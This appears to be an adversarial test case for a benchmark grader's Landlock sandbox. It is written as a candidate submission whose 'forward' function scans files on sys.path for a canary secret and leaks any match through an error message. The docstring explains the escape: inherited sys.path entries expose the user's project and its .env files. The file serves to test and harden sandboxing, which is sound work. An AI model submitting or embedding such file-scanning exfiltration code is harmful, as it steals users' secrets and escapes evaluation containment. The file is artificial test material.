"""S7 read the user's files through sys.path: every absolute sys.path entry is a Landlock read root.

Sandbox escape (issue 8, class 1: reads beyond what Python and numpy need). Workers inherit the grading
process's sys.path, and the read rules allow each absolute entry present when the fork server started:
with ``PYTHONPATH=. python my_eval.py`` (or an editable checkout on sys.path, .git/config included) the
user's project, with its ``.env`` files and notes, is readable by the candidate, which sends what it finds
back in the error message (stored, exported, shown). The test puts a secret file beside the grading
script, on PYTHONPATH. Only small top-level files are read.
"""

import os
import sys


def _loot():
    found = []
    for d in sys.path:
        if not os.path.isabs(d) or "site-packages" in d or d.startswith("/usr"):
            continue
        try:
            names = os.listdir(d)
        except OSError:
            continue
        for n in names:
            p = os.path.join(d, n)
            try:
                if os.path.isfile(p) and os.path.getsize(p) < 65536:
                    with open(p, "rb") as f:
                        data = f.read()
                    i = data.find(b"KBENCH_ADV_CANARY")
                    if i >= 0:
                        found.append(data[i:i + 40].decode(errors="replace"))
            except OSError:
                continue
    return found


def forward(x, params, alloc):
    found = _loot()
    if found:
        raise RuntimeError("stolen: " + " ".join(found))
    return alloc(x["x"].shape)
